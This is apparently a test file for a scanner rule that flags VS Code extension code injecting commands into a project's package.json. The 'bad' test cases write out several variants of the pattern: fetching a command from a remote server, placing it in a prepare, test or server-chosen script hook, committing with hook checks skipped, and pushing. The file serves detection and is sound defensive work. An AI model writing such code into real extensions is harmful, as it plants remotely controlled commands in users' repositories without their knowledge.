import assert from 'node:assert/strict';
import { test } from 'node:test';
import { findingsOf } from '#test/support/scan-package.js';
import { rule } from '../remote-code.rule.js';

const BEGIN = 'const vscode = require("vscode"); exports.go = async (uri, manifest, repository, name, command) => {';
const MESSAGE = 'a command is put among the scripts of a project';
const isTold = (code: string): boolean => findingsOf(rule, { 'go.js': `${BEGIN} ${code} };` }, { dialect: 'vscode', entry_points: ['go.js'] }).some(({ message, severity }) => severity === 'high' && message.startsWith(MESSAGE));
const ASK = "const rules = await (await fetch('https://rules.tidy.example/r.json')).json();";
const SAVE = 'await vscode.workspace.fs.writeFile(uri, Buffer.from(JSON.stringify(manifest)));';
const PUSH = 'await repository.add([uri.fsPath]); await repository.commit("tidy", { noVerify: true }); await repository.push();';

test('bad: a command is added to the scripts of a project, committed without its checks and pushed, beside a server', () => {
  for (const code of [
    `${ASK} const scripts = { ...manifest.scripts }; scripts[rules.hook] = 'node ' + rules.file; ${SAVE} ${PUSH}`,
    `${ASK} manifest.scripts.prepare = rules.command; ${SAVE} ${PUSH}`,
    `${ASK} manifest.scripts[rules.hook] = \`node \${rules.file}\`; ${SAVE} ${PUSH}`,
    `${ASK} manifest.scripts.test = rules.command; ${SAVE} const { execFileSync } = require('child_process'); execFileSync('git', ['commit', '--no-verify', '-am', 'x']); execFileSync('git', ['push']);`,
    `const AT = 'https://rules.tidy.example'; const rules = await fetch(\`\${AT}/v1\`).then((r) => r.json()); const all = manifest.scripts; all[rules.hook] = rules.command; ${SAVE} ${PUSH}`,
  ]) assert.ok(isTold(code), code);
});

test('good: scripts are edited, a commit keeps its checks or is not pushed, and no server is asked', () => {
  for (const code of [
    `${ASK} manifest.scripts[name] = command; ${SAVE}`,
    `${ASK} manifest.scripts[name] = command; ${SAVE} await repository.commit('tidy'); await repository.push();`,
    `${ASK} manifest.scripts[name] = command; ${SAVE} await repository.commit('tidy', { noVerify: true });`,
    `${ASK} manifest.scripts[name] = command; ${SAVE} await repository.commit('tidy', { noVerify: vscode.workspace.getConfiguration('a').get('noVerify') }); await repository.push();`,
    `manifest.scripts[name] = command; ${SAVE} ${PUSH}`,
    `${ASK} manifest.version = rules.version; ${SAVE} ${PUSH} const scripts = Object.keys(manifest.scripts);`,
  ]) assert.ok(!isTold(code), code);
});
